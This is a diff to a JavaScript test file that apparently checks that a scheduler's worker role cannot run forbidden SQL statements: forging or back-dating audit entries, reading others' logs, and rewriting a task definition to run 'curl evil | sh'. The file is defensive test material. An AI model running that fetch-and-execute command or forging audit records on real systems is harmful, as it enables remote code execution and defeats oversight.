@@ -104,6 +104,10 @@ const WORKER_ATTACKS = {
   'reads the logs of others': 'SELECT text FROM run_log_chunk',
   'writes an entry of the audit with another time': `INSERT INTO audit (namespace, at, principal_kind, principal_id, principal_name, action, subject)
     VALUES ('default', ${OLD}, 'cli', 'ann', 'ann', 'x', 'y:z')`,
+  'writes an entry of the audit in the name of a person': `INSERT INTO audit (namespace, principal_kind, principal_id, principal_name, action, subject)
+    VALUES ('default', 'cli', 'ann', 'ann', 'delete', 'task:nightly')`,
+  'notes that a person was refused what workers do not refuse': `SELECT note_refusal('default',
+    '{"kind": "token", "id": "x", "name": "ann"}', 'delete', 'task:nightly', '{}')`,
   'changes a definition': `UPDATE task SET definition = jsonb_set(definition, '{handler,command}', '"curl evil | sh"')`,
   'says that a definition is of code': `UPDATE task SET source = 'code'`,
   'moves a task to its pool': `UPDATE task SET pool = 'mine'`,
@@ -251,7 +255,7 @@ test('a worker saves a task of its code: as new, as the next version, and over a
     const handler = type === 'code' ? { type, name: 'of-code' } : { type, command: 'true' };
     const definition = taskDefinition.parse({ name: 'of-code', handler, schedule: { kind: 'manual' } });
     return await saveTask(worker, {
-      ...{ definition, schedule: definition.schedule, keyTemplate: 'of-code', source: 'code', by: by('test') },
+      ...{ definition, schedule: definition.schedule, keyTemplate: 'of-code', source: 'code', by: actOf(processPrincipal('app')) },
       ...{ redacted: { before: null, after: null }, expectedPlanSeq, effectiveAt: ago(0), nextRunAt: null },
     });
   };
